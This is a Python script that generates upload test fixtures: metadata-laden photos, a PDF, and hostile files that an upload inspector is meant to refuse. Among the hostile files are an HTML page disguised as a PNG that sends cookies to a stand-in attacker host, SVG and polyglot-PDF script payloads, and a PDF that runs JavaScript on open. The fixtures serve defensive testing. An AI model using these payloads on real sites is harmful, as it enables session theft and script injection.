#!/usr/bin/env python3
"""Makes the upload fixtures in this folder (Tests/FormsTests/FileInspectionTests.swift reads them).

    pip install pillow piexif
    python3 Tests/Fixtures/files/make_fixtures.py

The files are committed: run this again only to change them. Each is small and made from fixed
inputs, so a run gives the same pictures (the JPEG encoder's version can change their bytes).

Photos as a phone sends them, metadata and all:
  photo-gps.jpg           64x48, Exif (GPS position, Make, Model, orientation), XMP, a comment
  photo-progressive.jpg   the same, progressive (several scans) with restart markers
  photo-text.png          32x24, tEXt, iTXt (XMP), zTXt, eXIf (GPS) and tIME chunks
  document.pdf            a minimal valid one-page PDF
  photo-large.jpg         3200x1800, larger than the page's script sends (it scales to 2560 px)
Hostile files, all to be refused:
  html-named.png          an HTML page named like a photo
  script.svg              an SVG image with a script
  polyglot.pdf            a PDF that is an HTML page with a script too
  javascript.pdf          a PDF that runs JavaScript when opened
  truncated.jpg           photo-gps.jpg cut in half
  truncated.png           photo-text.png cut in half
  empty.png               no bytes at all
"""

import io
import math
import struct
import zlib
from pathlib import Path

import piexif
from PIL import Image

HERE = Path(__file__).resolve().parent

# Somewhere recognisable: the secrets a photo must not carry out.
GPS_LATITUDE = ((51, 1), (30, 1), (2647, 100))  # 51° 30' 26.47" N
GPS_LONGITUDE = ((0, 1), (7, 1), (3942, 100))  # 0° 7' 39.42" W
MAKE = b"FixtureCam"
MODEL = b"Model GPS-1"
XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.441N" '
    b'exif:GPSLongitude="0,7.657W"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)
COMMENT = b"Taken at 12 Fixture Street by FixtureCam"


def exif_bytes() -> bytes:
    return piexif.dump(
        {
            "0th": {
                piexif.ImageIFD.Make: MAKE,
                piexif.ImageIFD.Model: MODEL,
                piexif.ImageIFD.Orientation: 6,
            },
            "Exif": {piexif.ExifIFD.DateTimeOriginal: b"2026:03:14 09:26:53"},
            "GPS": {
                piexif.GPSIFD.GPSLatitudeRef: b"N",
                piexif.GPSIFD.GPSLatitude: GPS_LATITUDE,
                piexif.GPSIFD.GPSLongitudeRef: b"W",
                piexif.GPSIFD.GPSLongitude: GPS_LONGITUDE,
            },
        }
    )


def photo(width: int, height: int) -> Image.Image:
    """A gradient with some texture, so the encoder has real work (and FF bytes to stuff)."""
    image = Image.new("RGB", (width, height))
    pixels = image.load()
    seed = 12345
    for y in range(height):
        for x in range(width):
            seed = (seed * 1103515245 + 12345) % 2**31  # fixed noise, like a sensor's
            wave = int(40 * math.sin(x / 3.0) * math.cos(y / 4.0)) + seed % 41 - 20
            pixels[x, y] = (
                max(0, min(255, x * 255 // (width - 1) + wave)),
                max(0, min(255, y * 255 // (height - 1) - wave)),
                max(0, min(255, 128 + wave * 2)),
            )
    return image


def jpeg(**options) -> bytes:
    buffer = io.BytesIO()
    photo(64, 48).save(buffer, "JPEG", quality=85, exif=exif_bytes(), xmp=XMP, comment=COMMENT, **options)
    data = buffer.getvalue()
    markers = segments(data)
    assert markers.count(0xE1) == 2, "Exif and XMP in APP1 segments"
    assert 0xFE in markers, "a comment"
    assert piexif.load(data)["GPS"][piexif.GPSIFD.GPSLatitude] == GPS_LATITUDE, "the Exif holds the position"
    assert MAKE in data and MODEL in data and XMP in data and COMMENT in data
    return data


def large_photo() -> bytes:
    """Smooth gradients (so the file stays small) at a size a phone's camera gives."""
    size = (3200, 1800)
    red = Image.linear_gradient("L").resize(size)
    green = Image.linear_gradient("L").rotate(90).resize(size)
    image = Image.merge("RGB", [red, green, Image.new("L", size, 128)])
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def segments(data: bytes) -> list:
    """The marker codes of a JPEG's segments up to its first scan."""
    codes, position = [], 2
    while position < len(data) and data[position] == 0xFF:
        code = data[position + 1]
        codes.append(code)
        if code == 0xDA:
            break
        position += 2 + struct.unpack(">H", data[position + 2 : position + 4])[0]
    return codes


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png() -> bytes:
    width, height = 32, 24
    raw = photo(width, height).tobytes()
    rows = b"".join(b"\x00" + raw[y * width * 3 : (y + 1) * width * 3] for y in range(height))
    exif = exif_bytes()
    assert exif.startswith(b"Exif\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"tEXt", b"Author\x00FixtureCam owner")
        + chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP)
        + chunk(b"eXIf", exif[6:])
        + chunk(b"tIME", struct.pack(">HBBBBB", 2026, 3, 14, 9, 26, 53))
        + chunk(b"pHYs", struct.pack(">IIB", 2835, 2835, 1))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(COMMENT, 9))
        + chunk(b"IEND", b"")
    )


def pdf(extra_catalog: bytes = b"", comment: bytes = b"") -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    content = b"BT /F1 24 Tf 72 720 Td (Claim document) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + comment
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def main() -> None:
    photo_gps = jpeg()
    photo_text = png()
    files = {
        "photo-gps.jpg": photo_gps,
        "photo-progressive.jpg": jpeg(progressive=True, restart_marker_blocks=4),
        "photo-text.png": photo_text,
        "photo-large.jpg": large_photo(),
        "document.pdf": pdf(),
        "html-named.png": b"<!DOCTYPE html>\n<html><body><h1>Your claim</h1>"
        b"<script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n",
        "script.svg": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<rect width="10" height="10"/><script>alert(document.domain)</script></svg>\n',
        "polyglot.pdf": pdf(comment=b"%<html><body><script>alert(document.domain)</script></body></html>\n"),
        "javascript.pdf": pdf(extra_catalog=b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "truncated.jpg": photo_gps[: len(photo_gps) // 2],
        "truncated.png": photo_text[: len(photo_text) // 2],
        "empty.png": b"",
    }
    for name, data in files.items():
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
